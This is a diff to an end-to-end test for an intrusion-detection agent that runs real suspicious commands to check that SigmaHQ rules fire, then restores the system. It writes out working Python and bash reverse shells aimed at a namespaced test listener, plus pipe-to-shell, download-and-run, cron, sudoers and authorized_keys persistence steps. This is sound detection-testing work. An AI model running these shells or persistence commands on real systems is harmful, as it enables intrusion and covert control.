@@ -137,30 +137,30 @@ t.test('real commands raise their SigmaHQ findings through a real agent and back
     t.same(unexplained, [], 'no finding but the documented false positives')
   })
 
-  // rule id prefix → what ran
-  const expected: Array<{ rule: string, what: string }> = []
-  const expect = (rule: string, what: string): void => { expected.push({ rule, what }) }
+  // rule id prefix → what ran, and a field of the matching record the finding must show (its group)
+  const expected: Array<{ rule: string, what: string, shows: [string, string] }> = []
+  const expect = (rule: string, what: string, shows: [string, string]): void => { expected.push({ rule, what, shows }) }
 
   // ba592c6d Linux Base64 Encoded Pipe to Shell: CommandLine has 'base64 ' and ends '| sh'
   await sh(t, 'sh', ['-c', `echo ${Buffer.from('echo picket-e2e\n').toString('base64')} | base64 -d | sh`])
-  expect('ba592c6d', "sh -c 'echo ... | base64 -d | sh'")
+  expect('ba592c6d', "sh -c 'echo ... | base64 -d | sh'", ['process.cmd_line', '| base64 -d | sh'])
 
   // a2d9e2f3 Suspicious Download and Execute Pattern via Curl/Wget: '/curl', '/tmp/' and 'sh -c' in one command line;
   // 312b42b1 Potentially Suspicious Execution From Tmp Folder: the download run from /tmp
   const dropped = join(work, 'stage')
   await sh(t, 'sh', ['-c', `/usr/bin/curl -so ${dropped} ${url} && chmod +x ${dropped} && ${dropped}`])
-  expect('a2d9e2f3', 'sh -c with curl to /tmp, then run there')
-  expect('312b42b1', 'the download executed from /tmp')
+  expect('a2d9e2f3', 'sh -c with curl to /tmp, then run there', ['process.cmd_line', `/usr/bin/curl -so ${dropped}`])
+  expect('312b42b1', 'the download executed from /tmp', ['process.file.path', dropped])
   // 35a05c60 Wget Creating Files in Tmp Directory (file_event: Image ends /wget, TargetFilename in /tmp/)
   await sh(t, 'wget', ['-q', '-O', join(work, 'stage2'), url])
-  expect('35a05c60', 'wget writing into /tmp')
+  expect('35a05c60', 'wget writing into /tmp', ['file.path', join(work, 'stage2')])
 
   // 6c4e2f43 New Cron File Created: a file written under /etc/cron.d/ (a comment: cron has nothing to run)
   const cronFile = '/etc/cron.d/picket-e2e-test'
   touchAndRestore(t, cronFile)
   writeFileSync(join(work, 'cronjob'), '# picket e2e test: nothing to run\n')
   await sh(t, 'cp', [join(work, 'cronjob'), cronFile])
-  expect('6c4e2f43', 'a cron file dropped into /etc/cron.d')
+  expect('6c4e2f43', 'a cron file dropped into /etc/cron.d', ['file.path', cronFile])
 
   // 6b14bac8 Scheduled Cron Task/Job: crontab (Image ends 'crontab') loading a file from /tmp/; root's crontab restored after
   const hadCrontab = await run('crontab', ['-l'])
@@ -173,30 +173,30 @@ t.test('real commands raise their SigmaHQ findings through a real agent and back
     } else await run('crontab', ['-r'])
   })
   await sh(t, 'crontab', [join(work, 'cronjob')])
-  expect('6b14bac8', 'crontab /tmp/...')
+  expect('6b14bac8', 'crontab /tmp/...', ['process.cmd_line', `crontab ${join(work, 'cronjob')}`])
 
   // ddb26b76 Persistence Via Sudoers.d Files: a file written under /etc/sudoers.d/ (a comment: it grants nothing)
   const sudoersFile = '/etc/sudoers.d/picket-e2e-test'
   touchAndRestore(t, sudoersFile)
   writeFileSync(join(work, 'sudoers'), '# picket e2e test: grants nothing\n')
   await sh(t, 'cp', [join(work, 'sudoers'), sudoersFile])
-  expect('ddb26b76', 'a file in /etc/sudoers.d')
+  expect('ddb26b76', 'a file in /etc/sudoers.d', ['file.path', sudoersFile])
 
   // 1182f3b3 History File Deletion: rm naming a /.bash_history (a fake one in the test's folder)
   writeFileSync(join(work, '.bash_history'), 'ls\n')
   await sh(t, 'rm', ['-f', join(work, '.bash_history')])
-  expect('1182f3b3', 'rm -f .../.bash_history')
+  expect('1182f3b3', 'rm -f .../.bash_history', ['process.cmd_line', '/.bash_history'])
 
   // 3e102cd9 Linux Network Service Scanning Tools Execution: nmap, on loopback only
   await sh(t, 'nmap', ['-S', '127.0.0.66', '-e', 'lo', '-Pn', '-p', '1-10', '127.0.0.1'], 60_000)
-  expect('3e102cd9', 'nmap -S 127.0.0.66 -e lo -Pn -p 1-10 127.0.0.1')
+  expect('3e102cd9', 'nmap -S 127.0.0.66 -e lo -Pn -p 1-10 127.0.0.1', ['process.cmd_line', 'nmap -S 127.0.0.66 -e lo -Pn -p 1-10 127.0.0.1'])
 
   // Picket's own T1098.004 rule: an authorized_keys file rewritten (root's, put back after)
   const akeys = '/root/.ssh/authorized_keys'
   touchAndRestore(t, akeys)
   writeFileSync(join(work, 'key.pub'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPicketE2eTestKeyNotARealKeyAtAll0000000000 picket-e2e\n')
   await sh(t, 'sh', ['-c', `cat ${join(work, 'key.pub')} >> ${akeys}`])
-  expect('5f0c7a39', 'authorized_keys modified (picket_t1098_004_authorized_keys)')
+  expect('5f0c7a39', 'authorized_keys modified (picket_t1098_004_authorized_keys)', ['file.path', akeys])
 
   // 32e62bc7 (python pty reverse shell) and 83dcd9f6 (bash connecting out): to a listener in a
   // network namespace on a veth pair, since 83dcd9f6 leaves loopback out
@@ -246,9 +246,9 @@ for _ in range(2):
     await new Promise(resolve => setTimeout(resolve, 500))
     const pty = `import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${peer}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")`
     await sh(t, PYTHON, ['-c', pty], 15_000)
-    expect('32e62bc7', 'python3 -c "import socket,os,pty;...pty.spawn(...)"')
+    expect('32e62bc7', 'python3 -c "import socket,os,pty;...pty.spawn(...)"', ['process.cmd_line', 'pty.spawn("/bin/sh")'])
     await sh(t, 'bash', ['-c', `bash -i >& /dev/tcp/${peer}/4444 0>&1`], 15_000)
-    expect('83dcd9f6', `bash -i >& /dev/tcp/${peer}/4444 0>&1`)
+    expect('83dcd9f6', `bash -i >& /dev/tcp/${peer}/4444 0>&1`, ['actor.process.file.path', '/bin/bash'])
     const l = await listening
     t.equal(l.code, 0, `the listener in ${ns} took both shells${l.code === 0 ? '' : ': ' + l.stderr.slice(-300)}`)
   }
@@ -257,7 +257,10 @@ for _ in range(2):
   for (const e of expected) {
     const f = got.get(e.rule)
     t.ok(f !== undefined, `${e.what} raises ${e.rule}${f !== undefined ? ` '${String(f.finding.finding_info?.title)}'` : ''}`)
-    if (f !== undefined) t.equal(f.hostId, stack.hostId, `${e.rule}: on this host`)
+    if (f === undefined) continue
+    t.equal(f.hostId, stack.hostId, `${e.rule}: on this host`)
+    const group = (f.finding.unmapped?.picket?.group ?? {}) as Record<string, unknown>
+    t.match(String(group[e.shows[0]]), e.shows[1], `${e.rule}: the finding shows ${e.shows[0]} (${String(group[e.shows[0]]).slice(0, 120)})`)
   }
   const all = await findings(stack.db)
   t.comment(`findings: ${all.map(f => `${ruleOf(f).slice(0, 8)} ${String(f.finding.finding_info?.title)}`).join('; ')}`)
@@ -266,5 +269,5 @@ for _ in range(2):
 
 t.test('every file, crontab and namespace the commands touched is as it was', async t => {
   if (before === undefined) { t.pass('the commands did not run'); return }
-  t.same(await systemState(), before)
+  t.same(await systemState(), before, 'cron.d, sudoers.d, /root/.ssh, root\'s crontab and the test\'s namespaces as before')
 })
